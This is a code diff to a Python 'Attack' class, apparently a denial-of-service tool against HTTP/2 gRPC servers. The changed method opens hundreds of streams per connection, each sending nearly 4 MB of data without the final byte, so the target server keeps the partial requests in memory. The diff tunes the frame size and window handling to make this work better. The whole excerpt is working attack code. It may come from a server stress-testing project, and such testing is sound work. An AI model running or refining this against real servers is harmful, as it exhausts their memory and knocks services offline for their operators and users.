@@ -20,7 +20,6 @@ from frames import (
     END_HEADERS,
     END_STREAM,
     HEADERS,
-    MAX_FRAME,
     NEWEST_HEADER,
     PING,
     RST_STREAM,
@@ -45,6 +44,9 @@ IDLE = 500
 
 UNFINISHED = 900
 """Calls that are open at once, of those whose requests do not end."""
+
+PART = 8_192
+"""Bytes of a frame of those; a new stream may send one."""
 
 RATE = 1_000
 """Streams a second of the attack by open streams."""
@@ -199,26 +201,23 @@ class Attack:
     def unfinished_requests(self, until: float, method: str = "Echo") -> int:
         """Calls whose requests of 4 MB lack the last byte: a server keeps what it has of each."""
         size = 4 * 1024 * 1024 - 64
-        parts = [struct.pack(">BI", 0, size) + b"x" * (MAX_FRAME - 5)]
-        parts += [b"x" * MAX_FRAME] * (size // MAX_FRAME - 1)
+        parts = [struct.pack(">BI", 0, size) + b"x" * (PART - 5)]
+        parts += [b"x" * PART] * (size // PART - 1)
         sent = 0
         while time.monotonic() < until:
             with suppress(OSError):
                 connection = self.connect()
+                connection.await_settings()
                 connection.socket.settimeout(0.1)
                 waiting: dict[int, tuple[int, int]] = {}  # parts sent, window of the stream
                 while time.monotonic() < until:
                     if len(waiting) < UNFINISHED:
-                        waiting[connection.open(path(method))] = 0, 65_535
+                        waiting[connection.open(path(method))] = 0, connection.stream_window
                     for stream, (number, window) in list(waiting.items()):
-                        while (
-                            number < len(parts)
-                            and window >= MAX_FRAME
-                            and connection.window >= MAX_FRAME
-                        ):
+                        while number < len(parts) and window >= PART and connection.window >= PART:
                             connection.send(frame(DATA, stream, parts[number]))
-                            connection.window -= MAX_FRAME
-                            number, window, sent = number + 1, window - MAX_FRAME, sent + 1
+                            connection.window -= PART
+                            number, window, sent = number + 1, window - PART, sent + 1
                         waiting[stream] = number, window
                     while select.select([connection.socket], [], [], 0)[0]:
                         for got in connection.receive():
